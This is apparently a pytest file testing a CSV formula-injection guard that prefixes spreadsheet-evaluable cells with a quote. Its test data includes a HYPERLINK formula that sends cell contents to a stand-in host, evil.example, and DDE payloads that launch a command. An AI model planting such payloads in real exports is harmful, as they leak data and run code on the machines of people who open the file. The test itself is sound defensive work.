"""CSV cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from bifrost.render.spreadsheet import SafeDictWriter, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"open")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_a_spreadsheet_would_evaluate_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["api", "a = b", "build-42", "", 7, -3, None])
def test_other_cells_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_every_dangerous_cell_and_keeps_the_csv_readable() -> None:
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["service", "tags", "count"])
    writer.writeheader()
    writer.writerow({"service": "=cmd|' /C calc'!A0", "tags": "ok, fine", "count": -1})
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows == [{"service": "'=cmd|' /C calc'!A0", "tags": "ok, fine", "count": "-1"}]
